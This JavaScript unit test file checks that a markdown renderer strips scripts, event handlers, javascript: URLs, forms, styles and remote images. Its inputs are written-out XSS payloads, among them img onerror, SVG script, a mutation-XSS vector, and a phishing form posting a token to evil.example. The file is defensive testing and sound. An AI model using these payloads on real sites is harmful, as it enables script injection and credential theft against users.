// Unit tests for web/src/markdown.js: rendered markdown keeps its meaning
// and nothing that can act (issue 12, fault 6; CVE-2021-32798 class).
// DOMPurify needs a DOM: jsdom (a devDependency of web/) provides one.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '../..');
const { JSDOM } = createRequire(join(ROOT, 'web/package.json'))('jsdom');
const dom = new JSDOM('<!doctype html><body></body>');
globalThis.window = dom.window;
const { renderMarkdown } = await import('../../web/src/markdown.js');

/* The rendered HTML parsed back, as the page would hold it. */
function render(src) {
	const html = renderMarkdown(src);
	const box = dom.window.document.createElement('div');
	box.innerHTML = html;
	return { html, box };
}

test('ordinary markdown keeps its structure', () => {
	const { box } = render('# Title\n\nSome *text* with a [link](https://example.org) and `code`.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n- [ ] todo\n\n![chart](data:image/png;base64,iVBORw0KGgo=)\n![local](app/pic.png)');
	assert.equal(box.querySelector('h1').textContent, 'Title');
	assert.equal(box.querySelector('em').textContent, 'text');
	assert.equal(box.querySelector('a').getAttribute('href'), 'https://example.org');
	assert.equal(box.querySelectorAll('table td').length, 2);
	assert.match(box.textContent, /☑ done/);
	assert.match(box.textContent, /☐ todo/);
	assert.equal(box.querySelector('img[alt=chart]').getAttribute('src'), 'data:image/png;base64,iVBORw0KGgo=');
	assert.equal(box.querySelector('img[alt=local]').getAttribute('src'), 'app/pic.png');
});

test('style, forms and their controls are dropped', () => {
	const { html, box } = render('<style>body{display:none}</style>\n\n<form action="http://evil.example/steal" method="post"><input name="token" placeholder="token"><textarea></textarea><select><option>1</option></select><button formaction="http://evil.example">Log in</button></form>\n\n<p style="position:fixed;inset:0">cover</p>\n\n<span style="color:red">red</span>');
	for (const tag of ['style', 'form', 'input', 'button', 'textarea', 'select', 'option'])
		assert.equal(box.querySelectorAll(tag).length, 0, `<${tag}> survived: ${html}`);
	assert.equal(box.querySelectorAll('[style]').length, 0, `a style attribute survived: ${html}`);
	assert.doesNotMatch(html, /evil\.example|display:none/);
	assert.match(box.textContent, /cover/);
	assert.match(box.textContent, /red/);
});

test('scripts, event handlers and javascript: URLs are still refused', () => {
	const { html, box } = render('<script>window.pwned=1</script>\n\n<img src=x onerror="window.pwned=1">\n\n<a href="javascript:window.pwned=1">click</a>\n\n[md link](javascript:alert(1))\n\n<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>t</text></a></svg>\n\n<iframe src="http://evil.example"></iframe><object data="x"></object><embed src="x">\n\n<details open ontoggle="alert(1)">d</details><body onload="alert(1)">\n\n<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>');
	assert.equal(box.querySelectorAll('script, iframe, object, embed').length, 0, html);
	for (const el of box.querySelectorAll('*'))
		for (const a of el.attributes) {
			assert.doesNotMatch(a.name, /^on/i, `${el.tagName} keeps ${a.name}: ${html}`);
			assert.doesNotMatch(a.value, /javascript:/i, `${el.tagName} ${a.name}=${a.value}`);
		}
	assert.equal(globalThis.window.pwned, undefined);
});

test('images from other sites are not loaded, their address is shown instead', () => {
	const { box } = render('![tracker](https://evil.example/pixel.gif?nb=1) <img src="//evil.example/x.png" alt="x"> <img src="http:evil.example/y.png">');
	const imgs = [...box.querySelectorAll('img')];
	assert.equal(imgs.length, 3);
	for (const img of imgs) {
		assert.equal(img.getAttribute('src'), null, img.outerHTML);
		assert.match(img.getAttribute('title'), /not loaded/);
	}
});
